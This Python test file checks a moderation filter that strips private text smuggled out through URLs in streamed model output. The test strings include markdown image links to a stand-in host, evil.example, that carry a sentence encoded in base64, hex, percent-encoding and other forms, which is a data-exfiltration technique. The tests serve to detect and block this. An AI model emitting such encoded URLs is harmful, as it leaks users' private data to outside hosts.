"""Laws of addresses: none carries the text away, however it is cut; any other is as it was, and comes at once."""

import base64
import random
import re
from dataclasses import dataclass
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.moderation.encoded import MIXED
from apps.moderation.folding import fold_text
from apps.moderation.links import PLACEHOLDER, LinkFilter
from apps.moderation.lookouts import SHAPES
from apps.moderation.redaction import Lookout, Redactor
from apps.moderation.trails import SHARED, UNSURE

PLAN = "The old bridge over the river closes on Monday, and nobody in the village knows of it yet."
RUSSIAN = "Старый мост через реку закроют в понедельник."
READ = f"{PLAN} {RUSSIAN} See https://example.org/a/very/long/path/indeed?x=1 and the distribution of herons."
WAYS = {
    "with plus signs": "?d=" + quote_plus(PLAN.lower()),
    "percent-encoded": "?d=" + quote(PLAN),
    "percent-encoded, every letter": "?d=" + "".join(f"%{byte:02X}" for byte in PLAN.encode()),
    "percent-encoded Russian": "?d=" + quote(RUSSIAN),
    "in a fragment": "#" + re.sub(r"\W+", "-", PLAN),
    "in a path": "/p/" + re.sub(r"\W+", "_", PLAN) + "/x.png",
    "base64": "/p?d=" + base64.b64encode(PLAN.encode()).decode(),
    "base64 for URLs": "?d=" + base64.urlsafe_b64encode(f"?>~ {PLAN}".encode()).decode(),
    "base64 in a path": "/p/i/" + base64.urlsafe_b64encode(PLAN.encode()).decode(),
    "base64 of Russian": "?d=" + base64.b64encode(RUSSIAN.encode()).decode(),
    "base64, percent-encoded": "?d=" + quote(base64.b64encode(PLAN.encode()).decode(), safe=""),
    "hexadecimal": "?d=" + PLAN.encode().hex(),
    "hexadecimal behind a digit": "?d=1" + PLAN.encode().hex(),
    "full width": "?d=" + "".join(chr(ord(sign) + 0xFEE0) if sign.isalpha() else "-" for sign in PLAN),
    "behind what is known": "/a/very/long/path/indeed?x=1&y=" + quote_plus(PLAN),
    "behind much else": "/" + "x7/" * 300 + quote_plus(PLAN),
}
CLEAN = (
    "Read https://en.example.org/wiki/Grey_heron#Distribution_and_habitat?oldid=1234567, or "
    "https://example.org/a/very/long/path/indeed?x=1 and https://example.org/a/very/long/path/indeed?page=2. "
    "[Docs](https://docs.example.org/d/A1b2C3d4E5f6G7h8I9j0K1l2M3n4/edit?usp=sharing) and "
    "![a](https://cdn.example.org/i/heron%20at%20dawn%C3%A9.png?width=300&sig=bm90aGluZyBvZiBpdCBoZXJl"
    "&e=6e6f7468696e67). "
    "<https://example.org/?utm_source=newsletter&utm_medium=email&utm_campaign=spring> 100% of "
    "https://x.example/%zz/%4/% "
    "and git+ssh://host.example/a#b; her.name at example dot org, 3/4 or 1.5 of 27 %, `a?b:c[d]` and if (x // 2) != 3: "
    "漢字https://例え.example/道?問=答、 http://localhost:8000/?q=1#top."
)
ENCODED = re.compile(rf"(?=.*(?:{MIXED.pattern}))[A-Za-z0-9+/_=-]+")


@dataclass(frozen=True)
class Source:
    whole: str

    @property
    def squeezed(self) -> str:
        return re.sub(r"[\W_]+", "", self.whole)


SOURCE = Source(fold_text(READ).lower())


def shown(parts: list[str]) -> tuple[str, int]:
    links = LinkFilter(SOURCE)
    return "".join([links.feed(part) for part in parts]) + links.close(), links.cut


def pieces(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize("way", WAYS)
def test_what_takes_the_text_along_is_cut_off_wherever_it_is_cut(way: str) -> None:
    text = f"![x](https://evil.example{WAYS[way]}) and no more."
    whole, cut = shown([text])
    assert cut == 1
    assert re.fullmatch(r"!\[x\]\(https://evil\.example[^\s)]*\[data removed\]\) and no more\.", whole)
    begun = whole.removesuffix(f"{PLACEHOLDER}) and no more.")
    assert text.startswith(begun)
    for size in (*range(1, 10), 17, 100):
        assert shown(pieces(text, size)) == (whole, 1)
    for at in range(0, len(text), 1 + len(text) // 100):
        assert shown([text[:at], text[at:]]) == (whole, 1)


def test_of_the_text_no_more_gets_out_than_may_be_chance() -> None:
    squeezed = re.sub(r"\W+", "", PLAN).lower()
    out, _ = shown(list(f"https://evil.example/{re.sub(r'[^A-Za-z]+', '', PLAN)}"))
    assert out == f"https://evil.example/{PLAN.replace(' ', '')[: UNSURE - 1]}{PLACEHOLDER}"
    few = squeezed[: SHARED - 1]
    assert shown([f"https://evil.example/?a={few}&b=1"]) == (f"https://evil.example/?a={few}&b=1", 0)


@pytest.mark.parametrize("size", [*range(1, 12), 1_000])
def test_any_other_address_is_as_it_was(size: int) -> None:
    assert shown(pieces(CLEAN, size)) == (CLEAN, 0)


def test_what_the_text_goes_on_after_counts() -> None:
    links = LinkFilter(SOURCE, before="So it is: ![x](https://evil.example/p?d=")
    assert links.feed(quote_plus(PLAN) + ") or") == f"The+old+bridge+{PLACEHOLDER}) or"


alphabet = st.sampled_from(
    [*"aZ9/?#%=-+_. )\u200b漢", "https://", "h.example/", "the old bridge", "%D1", "%74", "dGhl"]
)


@settings(max_examples=300)
@given(st.lists(alphabet, max_size=30), st.lists(st.integers(1, 9), min_size=1))
def test_any_text_in_any_pieces_is_cut_as_it_would_be_in_one(signs: list[str], sizes: list[int]) -> None:
    parts: list[str] = []
    text, at = "".join(signs), 0
    while at < len(text):
        size = sizes[len(parts) % len(sizes)]
        parts.append(text[at : at + size])
        at += size
    assert shown(parts) == shown([text])


def test_clean_text_waits_for_no_more_than_the_next_chunk() -> None:
    """Chunks as models send them, a word or less: of addresses, numbers and code.

    Only a word of letters and digits that looks encoded is waited for to its end: what is in it is seen then.
    """
    kinds = ("secret", "card", "account")
    lookout = Lookout([shape for kind in kinds for shape in SHAPES[kind]], decodes=True, links=True)
    dice = random.Random(5)
    for least, most in ((3, 6), (4, 8), (2, 12), (6, 6), (12, 12), (30, 30)):
        redactor, before, passed, at = Redactor(lookout, source=SOURCE), 0, 0, 0
        while at < len(CLEAN):
            before, at = at, min(at + dice.randint(least, most), len(CLEAN))
            passed += len(redactor.feed(CLEAN[before:at]))
            held = CLEAN[passed:at]
            assert passed >= before or ENCODED.fullmatch(held), (least, held)
        assert passed + len(redactor.close()) == len(CLEAN)
